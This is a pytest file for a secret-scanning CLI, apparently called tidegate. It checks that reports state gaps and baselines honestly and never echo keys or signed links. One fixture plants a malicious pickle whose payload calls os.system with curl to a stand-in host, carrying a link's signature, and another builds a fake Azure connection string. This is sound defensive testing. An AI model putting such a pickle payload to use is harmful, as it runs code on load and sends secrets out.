"""Sentences that were found to mislead whoever read them for the first time."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import sys
import zipfile
from pathlib import Path

import pytest
from report import samples

from cli.shared import LINK
from tidegate.cli import main


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_what_a_baseline_mutes_is_not_said_to_be_absent(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "a.txt").write_text(LINK)
    assert main(["scan", "a.txt", "--write-baseline", "known.json"]) == 1
    capsys.readouterr()
    assert main(["scan", "a.txt", "--baseline", "known.json"]) == 0
    out = capsys.readouterr().out
    assert "No other link, token or key to cloud storage was found." in out
    assert "in the baseline: 1" in out


def test_of_several_targets_a_gap_says_of_which_it_is(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for name in ("one", "two"):
        (folder / name).mkdir()
        (folder / name / "a.zip").write_bytes(b"PK\x03\x04" + bytes(30))
        (folder / name / "there.txt").write_text("nothing here")
    assert main(["scan", "one", "two", "three", "--format", "json"]) == 3
    gaps = json.loads(capsys.readouterr().out)["gaps"]
    assert sorted(gap["subject"] for gap in gaps) == ["one: a.zip", "three", "two: a.zip"]
    main(["scan", "one", "--format", "json"])
    assert [gap["subject"] for gap in json.loads(capsys.readouterr().out)["gaps"]] == ["a.zip"]


def test_a_file_that_is_named_is_told_whatever_it_is(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "rows.csv").write_text("number,place\n" + "1,2\n" * 30)
    (folder / "words.txt").write_text("nothing here\n")
    assert main(["inspect", "rows.csv"]) == 0
    out = capsys.readouterr().out
    assert "table of 30 rows in 2 columns" in out
    assert "It is no model." in out
    assert main(["inspect", "words.txt"]) == 0
    assert "unknown" not in capsys.readouterr().out


def test_what_was_not_looked_into_is_said_beside_the_result(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "words.txt").write_text("nothing here\n")
    assert main(["inspect", "words.txt", "missing"]) == 3
    assert "1 thing was not looked at: this is not all." in capsys.readouterr().out


def test_a_clone_that_fails_says_why_and_not_how_to_get_rights(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["scan", f"file://{folder}/nowhere.git", "--format", "json"]) == 3
    (gap,) = json.loads(capsys.readouterr().out)["gaps"]
    assert "does not appear to be a git repository" in gap["reason"]


@pytest.mark.parametrize("form", ["text", "html", "markdown"])
def test_of_several_targets_a_place_says_in_which_it_is(
    form: str, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for name in ("one", "two"):
        (folder / name).mkdir()
        (folder / name / "a.txt").write_text(LINK)
    assert main(["scan", "one", "two", "--format", form]) == 1
    out = capsys.readouterr().out
    assert "one: a.txt:1:1" in out
    assert "two: a.txt:1:1" in out


def test_what_inspect_wrote_is_told_from_a_broken_report(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "words.txt").write_text("nothing here\n")
    assert main(["inspect", "words.txt", "--format", "json", "-o", "items.json"]) == 0
    assert main(["report", "items.json"]) == 2
    assert "this is what tidegate inspect wrote" in capsys.readouterr().err


@pytest.mark.parametrize("verb", ["scan", "inspect"])
@pytest.mark.parametrize("special", ["pipe", "/dev/zero"])
def test_neither_pipes_nor_devices_are_read(
    special: str, verb: str, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A named pipe made `inspect` walk the whole machine, from the root on."""
    os.mkfifo(folder / "pipe")
    assert main([verb, special, "--format", "json"]) == 3
    (gap,) = json.loads(capsys.readouterr().out)["gaps"]
    assert "neither a folder nor a regular file" in gap["reason"]


def test_a_folder_that_is_gone_is_a_gap(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "gone").mkdir()
    monkeypatch.chdir(folder / "gone")
    (folder / "gone").rmdir()
    try:
        assert main(["scan", ".", "--format", "json"]) == 3
    finally:
        monkeypatch.chdir(folder)
    (gap,) = json.loads(capsys.readouterr().out)["gaps"]
    assert gap["subject"] == "."


def test_half_of_what_names_a_finding_is_refused(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "log").write_text("x")
    assert main(["trace", "--log", "log", "--report", "report.json"]) == 2
    assert "--report and --finding go together" in capsys.readouterr().err


KEY = base64.b64encode(hashlib.sha512(b"nobody's").digest()).decode()
CONNECTION = f"DefaultEndpointsProtocol=https;AccountName=contosomodels;AccountKey={KEY};EndpointSuffix=core.windows.net"


@pytest.mark.parametrize("given", [CONNECTION, KEY, LINK])
@pytest.mark.parametrize(
    "command",
    [
        ["scan"],
        ["scan", "there.txt"],
        ["scan", "there.txt", "--scope"],
        ["scan", "there.txt", "-o"],
        ["scan", "there.txt", "--baseline"],
        ["inspect"],
        ["inspect", "there.txt", "--policy"],
        ["share", "check"],
        ["share", "revoke"],
        ["trace", "--key-id", "x", "--log"],
        ["report"],
        ["close", "tg-1", "--report"],
        ["rules", "check"],
        ["rules", "show"],
        ["schema"],
        ["list"],
        ["probe"],
    ],
)
def test_a_key_in_the_place_of_a_path_is_not_shown(
    command: list[str],
    given: str,
    folder: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(folder))
    (folder / "there.txt").write_text("nothing here")
    assert main([*command, given]) in (2, 3, 4)
    out, err = capsys.readouterr()
    shown = "".join((out + err).split())
    assert not [at for at in range(0, 64, 8) if KEY[at : at + 12] in shown]
    assert not [at for at in range(0, 24, 8) if samples.PLANTED[at : at + 12] in shown]


def test_a_link_on_standard_input_is_inspected_and_anything_else_refused(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for given, code, says in ((CONNECTION, 4, "not in scope"), ("hello", 2, "neither a link nor an address")):
        monkeypatch.setattr(sys, "stdin", io.StringIO(given))
        assert main(["inspect", "-", "--audit", str(folder / "audit.jsonl")]) == code
        assert says in capsys.readouterr().err


@pytest.mark.parametrize("form", ["text", "json", "jsonl", "sarif", "cyclonedx"])
def test_names_that_hold_a_signature_are_told_without_it(
    form: str, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    query = LINK.partition("?")[2]
    (folder / "many").mkdir()
    (folder / "many" / f"a?{query}").write_text("nothing here")
    with zipfile.ZipFile(folder / "many" / "packed.zip", "w") as packed:
        packed.writestr(f"b?{query}", "nothing here")
        packed.writestr("c.pkl", f"cos\nsystem\n(S'curl http://x?{query[-70:]}'\ntR.")
    assert main(["inspect", "many", "--format", form]) == 1
    shown = "".join(capsys.readouterr().out.split())
    assert "packed.zip" in shown
    assert not [at for at in range(0, 24, 8) if samples.PLANTED[at : at + 12] in shown]


def test_a_map_of_what_could_not_be_listed_is_incomplete_and_says_why(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "tidegate.toml").write_text(
        '[scope]\nazure = ["contosomodels"]\n[endpoints]\nazure = "http://127.0.0.1:1/{account}"\n'
    )
    command = ["list", "az://contosomodels/x", "--audit", "audit.jsonl", "--format", "html", "-o", "map.html"]
    assert main(command) == 3
    out, err = capsys.readouterr()
    assert out == ""
    assert "there is no picture" in err
    assert "no connection to 127.0.0.1: connection refused" in err
    assert not (folder / "map.html").exists()
